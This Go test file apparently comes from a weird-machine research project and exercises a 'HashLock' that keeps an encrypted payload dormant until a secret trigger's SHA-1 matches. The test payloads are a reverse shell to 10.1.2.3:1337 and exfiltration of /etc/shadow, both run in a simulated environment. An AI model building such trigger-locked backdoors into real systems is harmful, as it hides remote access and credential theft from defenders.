package wmapt

import (
	"crypto/sha1"
	"testing"

	"uwm/internal/core"
	"uwm/internal/skelly"
)

func hashLockRig(t *testing.T) (*HashLock, *Env) {
	t.Helper()
	m, err := core.NewMachine(core.Options{Seed: 51, TrainIterations: 3})
	if err != nil {
		t.Fatal(err)
	}
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		t.Fatal(err)
	}
	env := NewEnv()
	hl, err := NewHashLockSystem(sk, env)
	if err != nil {
		t.Fatal(err)
	}
	return hl, env
}

func TestHashLockLifecycle(t *testing.T) {
	if testing.Short() {
		t.Skip("each trigger evaluation is a full weird SHA-1")
	}
	hl, env := hashLockRig(t)

	if _, err := hl.HandleInput([]byte("early")); err != ErrNotInstalled {
		t.Errorf("pre-install err = %v", err)
	}

	trigger := []byte("open sesame")
	if err := hl.Install(ReverseShell{Addr: "10.1.2.3", Port: 1337}, trigger); err != nil {
		t.Fatal(err)
	}
	// The stored hash matches a reference SHA-1 of the trigger: the
	// weird hash computes the real function.
	if hl.TriggerHash() != sha1.Sum(trigger) {
		t.Error("stored condition hash is not SHA-1 of the trigger")
	}

	before := env.Snapshot()
	for _, wrong := range [][]byte{[]byte(""), []byte("open sesame!"), []byte("OPEN SESAME")} {
		res, err := hl.HandleInput(wrong)
		if err != nil {
			t.Fatal(err)
		}
		if res != nil {
			t.Fatalf("fired on wrong input %q", wrong)
		}
	}
	if env.Snapshot() != before {
		t.Error("environment changed during wrong-input probing")
	}

	res, err := hl.HandleInput(trigger)
	if err != nil {
		t.Fatal(err)
	}
	if res == nil || res.Payload != "reverse-shell" || !env.Shell {
		t.Fatalf("correct trigger did not fire: %+v", res)
	}

	// After firing, further inputs are inert.
	res2, err := hl.HandleInput(trigger)
	if err != nil {
		t.Fatal(err)
	}
	if res2 != nil {
		t.Error("payload re-fired")
	}
}

// TestHashLockKeyNotDerivableFromHash: the stored hash and the AES key
// come from different (domain-separated) hashes, so holding the
// condition hash does not decrypt the payload.
func TestHashLockKeyNotDerivableFromHash(t *testing.T) {
	if testing.Short() {
		t.Skip("weird hashing is slow")
	}
	hl, _ := hashLockRig(t)
	trigger := []byte("k")
	if err := hl.Install(ExfilShadow{Path: "/etc/shadow", Dest: "x:1"}, trigger); err != nil {
		t.Fatal(err)
	}
	stored := hl.TriggerHash()
	key, err := hl.keyFromTrigger(trigger)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+len(key) <= len(stored); i++ {
		match := true
		for j := range key {
			if stored[i+j] != key[j] {
				match = false
				break
			}
		}
		if match {
			t.Fatal("AES key is a substring of the stored hash")
		}
	}
}
